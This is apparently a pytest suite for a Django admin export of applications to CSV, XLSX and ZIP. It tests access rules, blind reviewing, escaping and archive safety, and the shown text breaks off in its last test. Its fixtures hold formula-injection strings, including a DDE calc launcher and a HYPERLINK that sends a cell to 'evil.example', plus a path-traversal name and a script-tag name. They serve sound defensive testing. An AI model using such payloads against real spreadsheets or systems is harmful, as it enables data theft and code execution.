"""Taking out the list: what is in the files, who gets them, and how long ones are made, kept and removed."""

import csv
import datetime
import hashlib
import io
import zipfile
from urllib.parse import unquote, urlencode

import openpyxl
import pytest
from django.contrib.admin.models import LogEntry
from django.core.files.base import ContentFile
from django.core.management import call_command
from django.db import transaction
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from applications import documents, exports, workflow
from applications.admin.exporting import rows_as_listed
from applications.exports import archive as archives
from applications.exports import jobs, tables
from applications.models import Application, Document, Export, document_storage
from applications.models.application import QUESTIONS
from applications.statuses import Status
from projects.models import Question

pytestmark = [pytest.mark.django_db, pytest.mark.once]

PAGE = "/admin/applications/application/export/"
FORMATS = ["csv", "xlsx", "zip"]


def page_of(**filters) -> str:
    return f"{PAGE}?{urlencode({'_changelist_filters': urlencode(filters)})}"


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def take_out(browser, export_format: str, **filters) -> bytes:
    response = browser.post(page_of(**filters), {"format": export_format})
    assert response.status_code == 200, response.headers
    return body(response)


def read_csv(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def open_sheet(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content)).active


def read_xlsx(content: bytes) -> list[dict]:
    titles, *rows = open_sheet(content).iter_rows(values_only=True)
    return [dict(zip(titles, row, strict=True)) for row in rows]


def open_zip(content: bytes) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(content))


def references(content: bytes, export_format: str) -> list[str]:
    """Whose applications are in the file, in its order."""
    if export_format == "csv":
        return [row["Reference"] for row in read_csv(content)]
    if export_format == "xlsx":
        return [row["Reference"] for row in read_xlsx(content)]
    index = read_csv(open_zip(content).read("index.csv"))
    return list(dict.fromkeys(row["Reference"] for row in index))


def everything_in(content: bytes, export_format: str):
    """What can be read in the file, without the hour at which it was made."""
    if export_format == "csv":
        return read_csv(content)
    if export_format == "xlsx":
        return read_xlsx(content)
    archive = open_zip(content)
    return {name: archive.read(name) for name in archive.namelist() if name != "index.html"}


@pytest.fixture
def browser(signed_in, supervisor):
    return signed_in(supervisor)


# What is taken out


@pytest.mark.parametrize("export_format", FORMATS)
def test_the_file_holds_what_the_list_shows_in_its_order(browser, make_application, export_format):
    bea = make_application(full_name="Bea Example", email="bea@example.org")
    ada = make_application(full_name="Ada Example", status="declined")
    cem = make_application(full_name="Cem Example", email="cem@example.org")

    def taken(**filters):
        return references(take_out(browser, export_format, **filters), export_format)

    by_name = list(browser.get("/admin/applications/application/").context["cl"].list_display).index("applicant")
    assert sorted(taken()) == sorted([ada.reference, bea.reference, cem.reference])
    assert taken(o=by_name) == [ada.reference, bea.reference, cem.reference]
    assert taken(o=-by_name) == [cem.reference, bea.reference, ada.reference]
    assert taken(status="declined") == [ada.reference]
    assert taken(q="Bea Example") == [bea.reference]
    assert taken(id__in=f"{ada.pk},{cem.pk}", o=by_name) == [ada.reference, cem.reference]


@pytest.mark.parametrize("export_format", FORMATS)
def test_applications_to_other_projects_are_never_in_it(
    signed_in, supervisor, co_advisor, other_supervisor, make_application, other_project, export_format
):
    own = make_application()
    foreign = make_application(other_project, full_name="Berta Beispiel", email="berta@example.org")

    for user, expected in ((supervisor, own), (co_advisor, own), (other_supervisor, foreign)):
        for filters in ({}, {"id__in": f"{own.pk},{foreign.pk}"}):
            content = take_out(signed_in(user), export_format, **filters)
            assert references(content, export_format) == [expected.reference]


def test_ids_are_asked_again_where_the_file_is_written(application, other_supervisor):
    file = io.BytesIO()

    exports.write_table("csv", file, [application.pk], other_supervisor)

    assert read_csv(file.getvalue()) == []
    assert len(exports.Archive([application.pk], other_supervisor).entries) == 0


def test_a_row_says_what_is_known_of_an_application(browser, supervisor, co_advisor, application, settings):
    workflow.review(application, by=supervisor, rating=4, recommendation="offer", comment="Good.")
    workflow.review(application, by=co_advisor, rating=2, recommendation="", comment="Hm.")
    workflow.note(application, "Called her.", by=supervisor)
    application.refresh_from_db()

    (row,) = read_csv(take_out(browser, "csv"))

    assert row == {
        "Reference": application.reference,
        "Name": "Ada Example",
        "E-mail address": "ada@example.org",
        "Project": "Can a transformer learn sequence alignment?",
        "Topic": "Genomics",
        "University": "University of Examples",
        "Programme": "MSc Computer Science",
        "Earliest start": application.earliest_start.isoformat(),
        "Status": "In review",
        "Received": timezone.localtime(application.received_at).isoformat(timespec="seconds"),
        "Days waiting": "0",
        "Staged decision": "",
        "My rating": "4",
        "My recommendation": "Offer the project",
        "My comment": "Good.",
        "Mean rating": "3.0",
        "Number of ratings": "2",
        "Disagreement": str(application.rating_spread),
        "Mean of the criteria": "",
        "Ratings": "Sofia Supervisor: 4 (Offer the project)\nCarl Coadvisor: 2",
        "Number of notes": "1",
        "Documents": "CV: cv.pdf (1 page)\nTranscript 1: transcript.pdf (2 pages)",
        "Motivation": "I would like to align sequences.",
        "Links": "https://example.org/ada",
        "Language": "en",
        "Address confirmed": "no",
        "Consented": "yes",
        "Review page": f"{settings.SITE_URL}/admin/applications/application/{application.pk}/change/",
    }


def test_a_staged_decision_stands_in_its_column_until_it_is_told(browser, supervisor, application):
    workflow.stage(application, Status.OFFERED, by=supervisor)

    assert read_csv(take_out(browser, "csv"))[0]["Staged decision"] == "Offered"


def test_a_table_costs_the_same_number_of_queries_for_1_and_for_50_rows(
    supervisor, project, make_application, django_assert_num_queries
):
    def write():
        exports.write_table("csv", io.BytesIO(), list(Application.objects.values_list("pk", flat=True)), supervisor)

    def hand_in(number: int) -> None:
        make_application(email=f"p{number}@example.org", **{QUESTIONS: [(question, f"Answer {number}")]})

    question = Question.objects.create(project=project, prompt="Which languages?")
    hand_in(0)
    write()
    with django_assert_num_queries(9):
        write()
    for number in range(1, 50):
        hand_in(number)
    with django_assert_num_queries(9):
        write()


# Answers to the projects' own questions


@pytest.fixture
def asked(project, other_project) -> list[Question]:
    """Three questions: two of `project`, the second of which another project asks, too."""
    return [
        Question.objects.create(project=project, prompt="Which languages?", position=1),
        Question.objects.create(project=project, prompt="Why?", kind="long", position=2),
        Question.objects.create(project=other_project, prompt="Why?", position=1),
    ]


@pytest.mark.parametrize(("export_format", "read"), [("csv", read_csv), ("xlsx", read_xlsx)])
def test_each_question_is_a_column_behind_the_others(
    signed_in, superuser, make_application, other_project, asked, export_format, read
):
    languages, why, other_why = asked
    make_application(full_name="Ada", **{QUESTIONS: [(why, "One.\nTwo."), (languages, "=Python()")]})
    make_application(other_project, full_name="Ben", email="b@example.org", **{QUESTIONS: [(other_why, "Three.")]})

    rows = read(take_out(signed_in(superuser), export_format))

    assert list(rows[0])[-3:] == ["Review page", "Which languages?", "Why?"]
    formula = "'=Python()" if export_format == "csv" else "=Python()"
    answers = {row["Name"]: (row["Which languages?"] or "", row["Why?"]) for row in rows}
    assert answers == {"Ada": (formula, "One.\nTwo."), "Ben": ("", "Three.")}


def test_a_formula_in_an_answer_or_a_question_is_text_in_the_sheet(browser, make_application, project):
    question = Question.objects.create(project=project, prompt="=1+1")
    make_application(**{QUESTIONS: [(question, "=2+2")]})

    sheet = open_sheet(take_out(browser, "xlsx"))

    column = [sheet.cell(row, sheet.max_column) for row in (1, 2)]
    assert [(cell.value, cell.data_type) for cell in column] == [("=1+1", "s"), ("=2+2", "s")]


def test_a_question_called_like_a_column_does_not_take_its_place(browser, make_application, project):
    question = Question.objects.create(project=project, prompt="Motivation")
    make_application(**{QUESTIONS: [(question, "Another one.")]})

    (row,) = read_csv(take_out(browser, "csv"))

    assert (row["Motivation"], row["Motivation (question)"]) == ("I would like to align sequences.", "Another one.")


def test_answers_are_taken_out_in_the_words_in_which_they_were_asked(browser, make_application, asked):
    make_application(**{QUESTIONS: [(asked[0], "Python")]})
    Question.objects.filter(pk=asked[0].pk).update(prompt="Something else")
    asked[1].delete()

    (row,) = read_csv(take_out(browser, "csv"))

    assert row["Which languages?"] == "Python"
    assert "Something else" not in row


def test_questions_of_projects_that_one_does_not_see_are_no_columns(browser, make_application, other_project, asked):
    make_application()
    make_application(other_project, email="b@example.org", **{QUESTIONS: [(asked[2], "Secret.")]})

    (row,) = read_csv(take_out(browser, "csv"))

    assert "Why?" not in row


def test_the_title_of_an_own_idea_is_among_the_columns(browser, make_application, project):
    project.is_own_idea = True
    project.save()
    project.ask_for_idea()
    make_application(**{QUESTIONS: [(project.questions.first(), "Tiny translators")]})

    assert read_csv(take_out(browser, "csv"))[0]["Title of your idea"] == "Tiny translators"


def test_a_file_that_answers_a_question_is_called_by_it(browser, make_application, project, cv_file):
    question = Question.objects.create(project=project, prompt="A sample of your writing", kind="file")
    application = make_application()
    upload = documents.receive(cv_file("sample.pdf"), Document.Kind.OTHER, question=question)
    workflow.replace_documents(application, [upload])

    names = open_zip(take_out(browser, "zip")).namelist()

    assert any(name.endswith("/3 A sample of your writing.pdf") for name in names)
    assert "A sample of your writing: sample.pdf" in read_csv(take_out(browser, "csv"))[0]["Documents"]


# Blindness

CANARY = 'Canaria "outstanding"'


@pytest.mark.parametrize("export_format", FORMATS)
@pytest.mark.parametrize("reader", ["supervisor", "co_advisor"])
def test_colleagues_ratings_change_nothing_in_a_file_before_ones_own_is_in(
    request, signed_in, superuser, application, export_format, reader
):
    """Two worlds, one in which a colleague praises and one in which they do not, give the same file."""
    browser = signed_in(request.getfixturevalue(reader))
    worlds = []
    for rating, recommendation, comment in ((5, "offer", CANARY), (1, "decline", "Never.")):
        workflow.review(application, by=superuser, rating=rating, recommendation=recommendation, comment=comment)
        Application.objects.update(score_mean=rating)
        content = take_out(browser, export_format)
        worlds.append(everything_in(content, export_format))
        assert "Canaria" not in str(worlds[-1])

    assert worlds[0] == worlds[1]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_colleagues_ratings_stand_in_the_table_once_ones_own_is_in(
    signed_in, supervisor, superuser, application, export_format
):
    workflow.review(application, by=superuser, rating=5, recommendation="offer", comment=CANARY)
    workflow.review(application, by=supervisor, rating=1, recommendation="", comment="")

    (row,) = (read_csv if export_format == "csv" else read_xlsx)(take_out(signed_in(supervisor), export_format))

    assert str(row["Number of ratings"]) == "2"
    assert "Rosa Root: 5 (Offer the project)" in row["Ratings"]


def test_a_supervisor_who_is_exempt_by_the_setting_reads_them_at_once(
    signed_in, supervisor, co_advisor, superuser, application, settings
):
    settings.SUPERVISOR_READS_RATINGS = True
    workflow.review(application, by=superuser, rating=5, recommendation="", comment="")

    assert read_csv(take_out(signed_in(supervisor), "csv"))[0]["Ratings"] == "Rosa Root: 5"
    assert read_csv(take_out(signed_in(co_advisor), "csv"))[0]["Ratings"] == ""


# Characters and formulas

WORDS = [
    "Jürgen Müßiggänger",
    "Łukasz Żółć",
    "山田 太郎",
    "👩🏽‍🔬 Ada 🧬",
    "محمد رضا کریمی‌نژاد",
    "שָׁלוֹם",
    'O\'Brien "Bob", <b>&amp;',
    "  blanks around  ",
    "_x0041_ and _x005F_x0041_",
    "several\nlines\n\nof text",
]
FORMULAS = [
    "=1+1",
    "+41 44 123 45 67",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"=1+1"',
    "'=1+1",
    "  =1+1",
    "＝1+1",
    "harmless;=1+1",
    "harmless\n=1+1",
    "harmless\t@SUM(A1)",
    'harmless; "-1',
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=DDE|'x'!y",
]


@pytest.mark.parametrize("words", WORDS)
def test_characters_of_every_kind_come_through_unharmed(browser, application, words):
    Application.objects.update(motivation=words, full_name=words)

    assert read_csv(take_out(browser, "csv"))[0]["Motivation"] == words
    assert read_csv(take_out(browser, "csv"))[0]["Name"] == words
    sheet_words = read_xlsx(take_out(browser, "xlsx"))[0]["Motivation"]
    assert openpyxl.utils.escape.unescape(sheet_words.replace("_x005F_x", "_x005F_\0")).replace("\0", "x") == words
    index = read_csv(open_zip(take_out(browser, "zip")).read("index.csv"))
    assert index[0]["Name"] == words


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_csv_is_a_formula_and_nothing_is_taken_away(browser, application, formula):
    Application.objects.update(motivation=formula)

    cell = read_csv(take_out(browser, "csv"))[0]["Motivation"]

    # However a spreadsheet splits it, no piece of it begins with a formula's sign, blanks and quotes left aside.
    for piece in cell.replace("\t", "\n").replace(";", "\n").split("\n"):
        assert piece.strip()[:1] not in tuple("=+-@＝") or piece == ""
        assert piece.startswith("'") or piece.lstrip(" \"'")[:1] not in tuple("=+-@＝") or piece.strip() == ""
    kept = iter(cell)
    assert all(char in kept for char in tables.clean(formula))
    assert cell.replace("'", "") == tables.clean(formula).replace("'", "")


def test_a_phone_number_stays_readable(browser, application):
    Application.objects.update(links="+41 44 123 45 67")

    assert read_csv(take_out(browser, "csv"))[0]["Links"] == "'+41 44 123 45 67"


def test_what_only_looks_dangerous_is_left_as_it_is():
    for words in ("a-b", "3 = 3", "me@example.org", "C++", "https://example.org/?a=b", "10 - 5"):
        assert tables.defused(words) == words


@pytest.mark.parametrize("formula", [*FORMULAS, "#N/A", "1234", "1e5", "2026-11-24", "TRUE"])
def test_every_text_in_a_workbook_is_a_text_cell(browser, application, formula):
    Application.objects.update(motivation=formula, full_name=formula)

    sheet = open_sheet(take_out(browser, "xlsx"))
    cells = {title.value: cell for title, cell in zip(sheet[1], sheet[2], strict=True)}

    for title in ("Motivation", "Name"):
        assert cells[title].data_type == "s"
        assert cells[title].value == tables.clean(formula)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_a_formula_stays_text_when_somebody_edits_the_cell(browser, application):
    Application.objects.update(motivation="=1+1", full_name="Ada")

    sheet = open_sheet(take_out(browser, "xlsx"))
    cells = {title.value: cell for title, cell in zip(sheet[1], sheet[2], strict=True)}

    assert cells["Motivation"].quotePrefix
    assert not cells["Name"].quotePrefix


@pytest.mark.parametrize("export_format", FORMATS)
def test_what_a_workbook_cannot_hold_is_marked_and_breaks_nothing(browser, application, export_format):
    Application.objects.update(motivation="a\x01b\x0bc\x1bd\ufffee\uffff", full_name="Ada\x07 Example\x1f")

    content = take_out(browser, export_format)

    assert references(content, export_format) == [application.reference]
    if export_format != "zip":
        (row,) = (read_csv if export_format == "csv" else read_xlsx)(content)
        assert row["Motivation"] == "a\ufffdb\ufffdc\ufffdd\ufffde\ufffd"


def test_a_text_longer_than_a_cell_can_be_says_that_it_was_shortened(browser, application):
    Application.objects.update(motivation="x" * 40_000)

    assert read_xlsx(take_out(browser, "xlsx"))[0]["Motivation"].endswith("x… (shortened)")
    assert len(read_csv(take_out(browser, "csv"))[0]["Motivation"]) == 40_000


def test_the_csv_begins_with_the_mark_by_which_excel_knows_its_characters(browser, application):
    assert take_out(browser, "csv").startswith(b"\xef\xbb\xbfReference,Name,")


def test_the_workbook_has_real_dates_a_fixed_header_and_a_filter(browser, application):
    sheet = open_sheet(take_out(browser, "xlsx"))
    cells = {title.value: cell for title, cell in zip(sheet[1], sheet[2], strict=True)}

    assert cells["Earliest start"].value.date() == application.earliest_start
    received = cells["Received (Europe/Zurich)"]
    local = timezone.make_naive(application.received_at)
    assert received.is_date
    assert abs(received.value - local) < datetime.timedelta(seconds=1)
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "C2"
    assert sheet.auto_filter.ref == f"A1:{sheet.dimensions.split(':')[1]}"
    assert all(width.width > 5 for width in sheet.column_dimensions.values())
    assert sheet.title == "Applications"


def test_a_workbook_leaves_no_piece_of_itself_behind(browser, application, data_folder, monkeypatch):
    take_out(browser, "xlsx")
    assert list((data_folder / "incoming").iterdir()) == []

    def fail(*args):
        raise OSError("disk full")

    monkeypatch.setattr(openpyxl.Workbook, "save", fail)
    with pytest.raises(OSError, match="disk full"):
        browser.post(PAGE, {"format": "xlsx"})
    assert list((data_folder / "incoming").iterdir()) == []


# The archive of documents


def test_the_archive_holds_each_document_under_a_readable_path(browser, make_application):
    application = make_application(transcripts=2)

    archive = open_zip(take_out(browser, "zip"))

    folder = f"Can a transformer learn sequence alignment/{application.reference} Ada Example"
    assert archive.namelist() == [
        "index.html",
        "index.csv",
        f"{folder}/1 CV.pdf",
        f"{folder}/2 Transcript 1.pdf",
        f"{folder}/3 Transcript 2.pdf",
    ]
    assert archive.testzip() is None
    assert {info.compress_type for info in archive.infolist()} == {zipfile.ZIP_STORED}
    for document, name in zip(application.current_documents(), archive.namelist()[2:], strict=True):
        assert hashlib.sha256(archive.read(name)).hexdigest() == document.sha256


def test_the_index_names_every_document_with_size_and_fingerprint_and_links_to_it(browser, application):
    archive = open_zip(take_out(browser, "zip"))

    rows = read_csv(archive.read("index.csv"))
    page = archive.read("index.html").decode()

    assert [row["Document"] for row in rows] == ["CV", "Transcript 1"]
    for row in rows:
        content = archive.read(row["Path"])
        assert row["Bytes"] == str(len(content))
        assert row["SHA-256"] == hashlib.sha256(content).hexdigest()
        assert row["SHA-256"] in page
    links = [unquote(part.split('"')[0]) for part in page.split('href="')[1:]]
    assert links == [row["Path"] for row in rows]
    assert "<script" not in page


def test_names_in_the_index_are_text_and_never_markup(browser, make_application):
    make_application(full_name="<script>alert(1)</script>")

    page = open_zip(take_out(browser, "zip")).read("index.html").decode()

    assert "<script>" not in page
    assert "&lt;script&gt;" in page


def test_only_documents_that_count_are_in_the_archive(browser, application, make_uploads):
    workflow.replace_documents(application, make_uploads(transcripts=1))

    assert len(open_zip(take_out(browser, "zip")).namelist()) == 4


def test_the_browser_knows_the_length_of_the_archive_before(browser, application):
    response = browser.post(PAGE, {"format": "zip"})

    assert response.streaming
    assert int(response["Content-Length"]) == len(body(response))


def test_a_document_missing_in_the_storage_is_named_and_the_others_come(browser, application, caplog):
    cv, _transcript = application.current_documents()
    document_storage().delete(cv.file.name)

    archive = open_zip(take_out(browser, "zip"))

    assert archive.testzip() is None
    assert len(archive.namelist()) == 3
    rows = read_csv(archive.read("index.csv"))
    assert rows[0]["Remark"] == "The file is missing in the storage."
    assert rows[1]["Remark"] == ""
    assert "1 document is missing" in archive.read("index.html").decode()
    assert str(cv.pk) in caplog.text


def test_a_document_that_goes_away_during_the_download_does_not_break_the_archive(browser, application, caplog):
    response = browser.post(PAGE, {"format": "zip"})
    document_storage().delete(application.current_documents()[1].file.name)

    content = body(response)

    archive = open_zip(content)
    assert int(response["Content-Length"]) == len(content)
    assert archive.testzip() is None
    assert archive.read(archive.namelist()[-1]).startswith(b"This file was removed")


def test_a_document_of_another_size_than_received_is_remarked(browser, application):
    Document.objects.filter(kind="cv").update(size=1)

    rows = read_csv(open_zip(take_out(browser, "zip")).read("index.csv"))

    assert rows[0]["Remark"] == "The file has another size than when it was received."


def test_an_application_without_documents_is_named(browser, application):
    application.documents.all().delete()

    rows = read_csv(open_zip(take_out(browser, "zip")).read("index.csv"))

    assert [row["Remark"] for row in rows] == ["This application has no documents."]


@pytest.mark.parametrize(
    ("words", "name"),
    [
        ("Ada Example", "Ada Example"),
        ("../../etc/passwd", "-..-etc-passwd"),
        ("C:\\Windows\\con", "CWindowscon"),
        ("CON", "_CON"),
        ("nul.txt", "_nul.txt"),
        ("com1", "_com1"),
        ("LPT².pdf", "_LPT².pdf"),
        ("ends with dots...", "ends with dots"),
        (" . ", "_"),
        ("", "_"),
        ("a\x00b\x01c\u202ed\u200be\u2066f", "abcdef"),
        ("two\n lines\u00a0here", "two lines here"),
        ('<>:"|?*', "_"),
        ("Zo\u0065\u0308", "Zoë"),
        ("x" * 300, "x" * 80),
        ("🧬" * 300, "🧬" * 40),
        ("x" * 79 + " . tail", "x" * 79),
    ],
)
def test_names_are_safe_on_every_system(words, name):
    assert archives.safe_name(words, 80) == name


@pytest.mark.parametrize("words", ["x" * 200, "山" * 200, "🧬" * 200, "ö" * 200])
def test_paths_stay_short_enough_for_every_system(browser, application, words):
    application.project.title = words
    application.project.save()
    Application.objects.update(full_name=words)

    names = open_zip(take_out(browser, "zip")).namelist()

    assert len(names) == 4
    for name in names:
        assert len(name.encode("utf-16-le")) // 2 <= 200
        assert all(len(part.encode()) <= 255 for part in name.split("/"))


def test_two_projects_of_one_title_have_two_folders(signed_in, superuser, make_application, project, other_project):
    other_project.title = project.title.upper()
    other_project.save()
    make_application()
    make_application(other_project, email="bob@example.org")

    names = open_zip(take_out(signed_in(superuser), "zip")).namelist()

    folders = {name.split("/")[0].casefold() for name in names if "/" in name}
    assert len(folders) == 2
    assert len({name.casefold() for name in names}) == len(names)


def test_beyond_four_gigabytes_the_length_is_still_known_before():
    stream = archives.ZipStream(sized=True)
    for number in range(3):
        stream.add(iter(()), f"{number}.pdf", size=2 * 2**30)

    assert len(stream) > 6 * 2**30  # Zip64 is the library's; that it is switched on by itself is what matters here


# The page


def test_the_page_says_how_many_and_what(browser, make_application):
    make_application()
    make_application(email="bob@example.org", status="declined")

    page = browser.get(page_of(status="declined"))
    words = page.content.decode()

    assert page.context["count"] == 1
    assert "<strong>1 application</strong>" in words
    assert "Mean of the criteria" in words
    assert "deleted after 24 hours" in words
    assert 'href="/admin/applications/application/?status=declined"' in words


def test_an_empty_list_has_nothing_to_export(browser, application):
    page = browser.get(page_of(q="nobody"))

    assert "There is nothing to export" in page.content.decode()
    assert browser.post(page_of(q="nobody"), {"format": "csv"}).templates
    assert not Export.objects.exists()


@pytest.mark.parametrize("posted", [{}, {"format": ""}, {"format": "exe"}])
def test_without_a_format_nothing_is_exported_and_the_page_says_so(browser, application, posted):
    page = browser.post(PAGE, posted)

    assert page.status_code == 200
    assert "Please choose" in page.content.decode()
    assert not Export.objects.exists()


def test_looking_exports_nothing_and_other_methods_are_refused(browser, application):
    browser.get(PAGE)

    assert not Export.objects.exists()
    assert browser.put(PAGE).status_code == 405
    assert browser.delete(PAGE).status_code == 405


def test_a_post_without_the_forms_token_is_refused(supervisor, application):
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(supervisor)

    assert strict.post(PAGE, {"format": "csv"}).status_code == 403
    assert not Export.objects.exists()


@pytest.mark.parametrize("export_format", FORMATS)
def test_the_answer_is_a_private_attachment(browser, application, export_format):
    response = browser.post(PAGE, {"format": export_format})
    body(response)

    assert response["Content-Disposition"].startswith('attachment; filename="applications-')
    assert response["Content-Disposition"].endswith(f'.{export_format}"')
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]
    assert (
        response["Content-Type"].split(";")[0]
        == {
            "csv": "text/csv",
            "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            "zip": "application/zip",
        }[export_format]
    )


@pytest.mark.parametrize("export_format", FORMATS)
def test_every_export_leaves_a_record_without_anything_personal(browser, supervisor, application, export_format):
    take_out(browser, export_format, q="Ada")

    export = Export.objects.get()
    assert (export.user, export.format, export.state, export.total) == (supervisor, export_format, "streamed", 1)
    assert export.query == ""
    assert export.finished_at
    assert not LogEntry.objects.exists()


def test_the_ticked_ones_are_exported(browser, make_application):
    ada, _bob = make_application(), make_application(email="bob@example.org")
    posted = {"action": "export_ticked", "_selected_action": [ada.pk], "index": 0}

    response = browser.post("/admin/applications/application/?status=received", posted)

    page = browser.get(response["Location"])
    assert page.context["count"] == 1
    assert references(body(browser.post(response["Location"], {"format": "csv"})), "csv") == [ada.reference]


def test_ticking_a_foreign_application_exports_nothing_of_it(browser, make_application, other_project):
    ada = make_application()
    foreign = make_application(other_project, email="bob@example.org")
    posted = {"action": "export_ticked", "_selected_action": [ada.pk, foreign.pk], "index": 0}

    response = browser.post("/admin/applications/application/", posted)

    assert references(body(browser.post(response["Location"], {"format": "csv"})), "csv") == [ada.reference]


# Long ones are made by the worker


@pytest.fixture
def long_ones(monkeypatch):
    """Everything is long."""
    monkeypatch.setattr(jobs, "SHORT", dict.fromkeys(Export.Format, 0))


def ask(browser, export_format: str = "csv", **filters) -> Export:
    response = browser.post(page_of(**filters), {"format": export_format})
    assert response.status_code == 302
    export = Export.objects.latest("created_at")
    assert response["Location"].startswith(job_page(export))
    return export


def job_page(export: Export) -> str:
    return reverse("admin:applications_application_export_job", args=[export.pk])


def file_page(export: Export) -> str:
    return reverse("admin:applications_application_export_file", args=[export.pk])


def make(**options) -> int:
    return exports.make_due(rows_as_listed, **options)


def export_files(stored_files) -> list[str]:
    return [path.name for path in stored_files() if path.parent.name == "exports"]


@pytest.mark.parametrize("export_format", FORMATS)
def test_a_long_export_is_made_by_the_worker_and_then_downloaded(
    browser, make_application, long_ones, export_format, data_folder, stored_files
):
    ada = make_application(full_name="Ada Example")
    make_application(full_name="Bob Example", email="bob@example.org", status="declined")
    export = ask(browser, export_format, status="received", q="Ada")
    waiting = browser.get(job_page(export)).content.decode()
    assert "It waits for its turn." in waiting
    assert browser.get(file_page(export)).status_code == 404

    assert make() == 1

    export.refresh_from_db()
    assert (export.state, export.done, export.total) == ("ready", 1, 1)
    assert "Ada" not in export.query
    assert "Download" in browser.get(job_page(export)).content.decode()
    response = browser.get(file_page(export))
    assert references(body(response), export_format) == [ada.reference]
    assert response["Content-Disposition"].startswith("attachment")
    assert "no-store" in response["Cache-Control"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert export_files(stored_files) == [f"{export.pk.hex}.{export_format}"]
    assert {path.stat().st_mode & 0o777 for path in stored_files()} == {0o600}
    assert list((data_folder / "incoming").iterdir()) == []
    assert make() == 0


def test_what_is_short_is_sent_at_once_and_what_is_long_is_not():
    for export_format, most in (("csv", 1000), ("xlsx", 1000), ("zip", 200)):
        assert exports.is_short(export_format, most)
        assert not exports.is_short(export_format, most + 1)


def test_more_documents_than_an_archive_holds_are_refused_with_a_way_out(browser, application, monkeypatch):
    monkeypatch.setattr(exports, "ZIP_MOST", 0)

    assert "Please narrow the list" in browser.post(PAGE, {"format": "zip"}).content.decode()
    assert not Export.objects.exists()


def test_asking_twice_for_the_same_is_one_export(browser, application, long_ones):
    first = ask(browser)

    assert ask(browser) == first
    assert ask(browser, "xlsx") != first


def test_the_page_shows_how_far_it_is_and_looks_again_until_it_is_asked_not_to(browser, application, long_ones):
    export = ask(browser)
    Export.objects.update(state="running", total=10_000, done=3_400)

    page = browser.get(job_page(export)).content.decode()
    still = browser.get(job_page(export), {"still": "1"}).content.decode()

    assert "3,400 of 10,000" in page
    assert 'max="10000" value="3400"' in page
    assert '<noscript><meta http-equiv="refresh" content="2"></noscript>' in page
    assert "http-equiv" not in still
    assert "Look again" in still
    make_it_ready(export)
    assert "http-equiv" not in browser.get(job_page(export)).content.decode()


def make_it_ready(export: Export) -> None:
    Export.objects.filter(pk=export.pk).update(state="queued")
    assert make() == 1
    export.refresh_from_db()
    assert export.state == "ready"


def test_progress_is_told_while_it_is_made(browser, make_application, long_ones, monkeypatch):
    for number in range(3):
        make_application(email=f"p{number}@example.org")
    monkeypatch.setattr(jobs, "TELL_EVERY", 0)
    export = ask(browser)
    told = []

    def looking() -> bool:
        export.refresh_from_db()
        told.append((export.state, export.done, export.total))
        return False

    make(stopping=looking)

    assert told == [("running", 0, 3), ("running", 1, 3), ("running", 2, 3)]


def test_an_export_goes_only_to_the_one_who_asked_for_it(
    browser, signed_in, co_advisor, superuser, staff_without_rights, other_supervisor, application, long_ones
):
    export = ask(browser)
    make()

    for user in (co_advisor, superuser, other_supervisor):
        assert signed_in(user).get(job_page(export)).status_code == 404
        assert signed_in(user).get(file_page(export)).status_code == 404
    assert signed_in(staff_without_rights).get(file_page(export)).status_code == 403
    assert browser.post(file_page(export)).status_code == 405
    assert browser.post(job_page(export)).status_code == 405


def test_who_lost_access_before_it_was_made_gets_nothing_of_it(signed_in, co_advisor, application, long_ones, project):
    export = ask(signed_in(co_advisor))
    project.co_advisors.clear()

    make()

    export.refresh_from_db()
    assert export.total == 0
    with document_storage().open(export.file_name) as file:
        assert references(file.read(), "csv") == []


def test_who_lost_access_since_cannot_download_it_any_more(signed_in, co_advisor, application, long_ones, project):
    browser = signed_in(co_advisor)
    export = ask(browser)
    make()
    assert body(browser.get(file_page(export)))

    project.co_advisors.clear()

    assert browser.get(file_page(export)).status_code == 404
    assert "may no longer see" in browser.get(job_page(export)).content.decode()


@pytest.mark.parametrize("export_format", FORMATS)
def test_the_worker_is_blind_too(signed_in, supervisor, superuser, application, long_ones, export_format):
    browser = signed_in(supervisor)
    worlds = []
    for rating, comment in ((5, CANARY), (1, "Never.")):
        workflow.review(application, by=superuser, rating=rating, recommendation="", comment=comment)
        export = ask(browser, export_format)
        make()
        worlds.append(everything_in(body(browser.get(file_page(export))), export_format))
        assert "Canaria" not in str(worlds[-1])

    assert worlds[0] == worlds[1]


def test_a_killed_workers_export_is_made_by_another_one_when_its_lease_is_over(browser, application, long_ones):
    export = ask(browser)
    Export.objects.update(state="running", done=1, leased_until=timezone.now() + datetime.timedelta(minutes=1))
    document_storage().save(export.file_name, ContentFile(b"half a file"))
    assert make() == 0

    Export.objects.update(leased_until=timezone.now() - datetime.timedelta(seconds=1))

    assert make() == 1
    assert references(body(browser.get(file_page(export))), "csv") == [application.reference]


@pytest.mark.django_db(transaction=True)
def test_two_workers_make_an_export_once(browser, application, long_ones, at_once, stored_files):
    ask(browser)

    assert sorted(at_once(make, make)) == [0, 1]
    assert len(export_files(stored_files)) == 1


def test_a_worker_that_lost_its_claim_stores_nothing(browser, application, long_ones, monkeypatch, stored_files):
    export = ask(browser)
    monkeypatch.setattr(jobs, "TELL_EVERY", 0)
    elsewhere = timezone.now() + datetime.timedelta(minutes=5)

    def taken_over() -> bool:
        Export.objects.update(leased_until=elsewhere)
        return False

    assert make(stopping=taken_over) == 0

    export.refresh_from_db()
    assert (export.state, export.leased_until) == ("running", elsewhere)
    assert export_files(stored_files) == []


def test_a_worker_asked_to_stop_leaves_the_export_to_the_next_one(browser, application, long_ones, data_folder):
    export = ask(browser)

    assert make(stopping=lambda: True) == 0

    export.refresh_from_db()
